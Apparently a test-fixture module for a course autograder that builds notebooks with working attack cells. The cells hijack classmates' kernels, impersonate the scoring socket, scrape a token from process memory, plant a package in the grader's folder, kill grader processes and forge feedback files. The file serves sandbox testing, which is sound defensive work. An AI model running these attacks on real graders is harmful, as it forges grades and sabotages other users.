"""Attacks a hostile student could hand in (issue 12), each a notebook named for what it does.

Each builder returns exercise 02's solution notebook (or, where the attack should earn
marks it does not deserve, the wrong answer of :mod:`tests.grading.fixtures`) with one
attack cell inserted. Every attack prints one ``NAME=count`` line saying how far it got,
which the tests read in the executed notebook the grader writes. Against the grader
before issue 12 each of these got that far (issue 12 lists what followed); in a
sandbox of its own a kernel finds nothing to attack.
"""

from __future__ import annotations

import nbformat

from tests.grading import fixtures

# 1. A running classmate's kernel: its connection file (to replace channel.submit there),
# and its notebook through /proc/<pid>/cwd.
SABOTAGE = r"""
import glob, json, os, time
from ipykernel.connect import get_connection_file
from jupyter_client import BlockingKernelClient
mine, sabotaged, read = os.path.realpath(get_connection_file()), set(), set()
deadline = time.time() + 25
while time.time() < deadline and not sabotaged:
    files = glob.glob("/tmp/**/kernel*.json", recursive=True)
    files += glob.glob(os.path.expanduser("~/.local/share/jupyter/runtime/*.json"))
    files += glob.glob("/root/.local/share/jupyter/runtime/*.json")
    for path in set(map(os.path.realpath, files)) - {mine}:
        try:
            kc = BlockingKernelClient(connection_file=path)
            kc.load_connection_file()
            kc.start_channels()
            kc.execute("import forge_course.grading.channel as c; c.submit = lambda *a, **k: None")
            sabotaged.add(path)
        except Exception:
            pass
    for cwd in glob.glob("/proc/[0-9]*/cwd"):
        try:
            if os.path.realpath(cwd) != os.getcwd():
                read |= {nb for nb in glob.glob(cwd + "/*.ipynb") if open(nb).read(10)}
        except OSError:
            pass
    time.sleep(0.5)
print(f"SABOTAGED={len(sabotaged)} READ={len(read)}")
"""

# 2. Take over the fork server's socket and answer the score request with full marks.
IMPERSONATE = r"""
import ctypes, glob, json, os, signal, socket, time
ctypes.CDLL(None).prctl(36, 0, 0, 0, 0)  # no longer a subreaper: orphans escape
server = os.getppid()
socks = glob.glob("/tmp/forge-*/**/server.sock", recursive=True)
print(f"SERVER_SOCKETS={len(socks)}")
if socks and os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        from forge_course.grading import exercise
        rows = [dict(check=c.id, points=c.points, possible=c.points, status="passed",
                     message="", hint="", hidden=c.hidden)
                for c in exercise("02_sequential_api").checks]
        if server > 1:
            os.kill(server, signal.SIGKILL)
        time.sleep(0.3)
        for path in socks:
            try:
                os.unlink(path)
                s = socket.socket(socket.AF_UNIX)
                s.bind(path)
                s.listen(8)
                while True:
                    conn, _ = s.accept()
                    conn.recv(1 << 20)
                    conn.sendall(json.dumps({"rows": rows, "environment": {}}).encode())
                    conn.close()
            except Exception:
                pass
    os._exit(0)
"""

# 3. The fork server's token, found in the kernel's own memory (it was forked from it).
STEAL_TOKEN = r"""
import glob, json, re, socket
import time
found, budget, deadline = set(), 768 << 20, time.time() + 20
with open("/proc/self/maps") as f, open("/proc/self/mem", "rb", 0) as mem:
    for line in f:
        fields = line.split()
        if "rw" not in fields[1] or (len(fields) > 5 and fields[5] != "[heap]"):
            continue  # the heap and anonymous memory: where a token read from stdin lies
        lo, hi = (int(x, 16) for x in fields[0].split("-"))
        if hi - lo > 64 << 20 or hi - lo > budget or time.time() > deadline:
            continue
        budget -= hi - lo
        try:
            mem.seek(lo)
            chunk = mem.read(hi - lo)
        except (OSError, OverflowError, ValueError):
            continue
        found |= set(re.findall(rb'"token": "([0-9a-f]{32})"', chunk))
        found |= set(re.findall(rb'(?<![0-9a-f])([0-9a-f]{32})\n', chunk))
accepted = 0
for path in glob.glob("/tmp/forge-*/**/server.sock", recursive=True):
    for token in found:
        try:
            s = socket.socket(socket.AF_UNIX)
            s.settimeout(5)
            s.connect(path)
            req = {"kind": "kernel", "argv": ["python", "-m", "ipykernel_launcher", "-f", "/x"],
                   "env": {}, "cwd": "/tmp", "log": "/dev/null", "token": token.decode()}
            s.sendall(json.dumps(req).encode() + b"\n")
            accepted += s.recv(100).strip().isdigit()
        except OSError:
            pass
print(f"TOKENS_FOUND={len(found)} ACCEPTED={accepted}")
"""

# 4. A package planted in the grader's working folder, imported by a restarted fork server.
PLANT = r'''
import os, signal
import forge_course
real = os.path.dirname(forge_course.__file__)
code = f"""
import os
__path__ = [{real!r}]
__file__ = os.path.join({real!r}, "__init__.py")
exec(compile(open(__file__).read(), __file__, "exec"))
from forge_course.grading import feedback as _f, score as _s
def _all_pass(task, values, params, checks=None):
    return [_f.CheckResult(c.id, c.points, c.points, "passed", "", c.hint, c.hidden)
            for c in (task.public if checks is None else checks)]
_f.run_checks = _s.run_checks = _all_pass
"""
places = set()
try:
    import psutil
    for p in psutil.Process().parents():
        try:
            if p.pid != 1 and p.cwd() != os.getcwd():  # the grader's processes, not init
                places.add(p.cwd())
        except psutil.Error:
            pass
except Exception:
    pass
planted = 0
for place in places - {os.path.dirname(real)}:  # never the real course: only a grader's folder
    try:
        os.makedirs(os.path.join(place, "forge_course"), exist_ok=True)
        with open(os.path.join(place, "forge_course", "__init__.py"), "w") as f:
            f.write(code)
        planted += 1
    except OSError:
        pass
marker = os.path.join(os.path.dirname(real), ".planted-by-a-notebook")
try:
    open(marker, "w").write("the course folder is writable")
    planted += 1
except OSError:
    pass
if planted and os.getppid() > 1:
    os.kill(os.getppid(), signal.SIGKILL)  # the fork server restarts, importing the plant
print(f"PLANTED={planted}")
'''

# 5. SIGTERM to every process above the kernel: the grader among them.
ABORT = r"""
import signal
import psutil
signalled = 0
for p in psutil.Process().parents():
    if p.pid == 1:  # the machine's (or, sandboxed, its own namespace's) init: not the grader
        continue
    try:
        p.send_signal(signal.SIGTERM)
        signalled += 1
    except psutil.Error:
        pass
print(f"SIGNALLED={signalled}")
"""

# 6. Write into --out: a fake feedback for a classmate, a stray file (OUT is filled in).
# Sandboxed, a path under /tmp lands in the kernel's own private /tmp: it "writes", but
# nothing reaches the grader's folder.
WRITE_OUT = r"""
import glob, os
outs = {OUT}
for cmdline in glob.glob("/proc/[0-9]*/cmdline"):
    try:
        args = open(cmdline).read().split("\0")
        outs.add(args[args.index("--out") + 1])
    except (OSError, ValueError, IndexError):
        pass
wrote = 0
for out in outs:
    for rel, text in (("feedback/correct.md", "# Feedback for correct\n\nYou copied: 0 points"),
                      ("planted.txt", "a notebook was here"),
                      ("executed/correct/correct.ipynb", "{}")):
        try:
            path = os.path.join(out, rel)
            os.makedirs(os.path.dirname(path), exist_ok=True)
            open(path, "w").write(text)
            wrote += 1
        except OSError:
            pass
print(f"WROTE={wrote}")
"""

PRINT_TOO_MUCH = 'print("x" * 50_000_000)\nprint("PRINTED=50000000")'

HUGE_ARRAY = (
    "import numpy as np\n"
    "check('ex02_3', model=model, test_predictions=np.zeros(300_000_000, dtype=np.int8))"
)


def _with(nb, after: str, source: str):
    return fixtures._insert_after(nb, after, source)


def sabotages_a_neighbour():
    return _with(fixtures.correct(), "setup(seed=SEED)", SABOTAGE)


def victim_of_a_neighbour():
    """An honest notebook that is still running while a classmate's kernel attacks."""
    return _with(fixtures.correct(), "setup(seed=SEED)", "import time\ntime.sleep(20)")


def impersonates_the_scorer():
    return _with(fixtures.wrong_answer(), 'check("ex02_1"', IMPERSONATE)


def steals_the_token():
    return _with(fixtures.correct(), 'check("ex02_1"', STEAL_TOKEN)


def plants_code_in_the_grader():
    return _with(fixtures.wrong_answer(), "setup(seed=SEED)", PLANT)


def aborts_the_batch():
    return _with(fixtures.correct(), 'check("ex02_1"', ABORT)


def writes_into_out(out: str):
    return _with(fixtures.correct(), 'check("ex02_1"', WRITE_OUT.replace("{OUT}", repr({out})))


def prints_too_much():
    return _with(fixtures.correct(), 'check("ex02_1"', PRINT_TOO_MUCH)


def sends_a_huge_array():
    nb = fixtures.correct()
    i = fixtures._index(nb, 'check("ex02_3"')
    nb.cells[i].source = HUGE_ARRAY
    return nb


KERNEL_ATTACKS = {
    f.__name__: f
    for f in (
        impersonates_the_scorer, steals_the_token, plants_code_in_the_grader,
        aborts_the_batch, prints_too_much, sends_a_huge_array,
    )
}  # fmt: skip


def write(folder, name: str, nb) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    nbformat.write(nb, folder / f"{name}.ipynb")
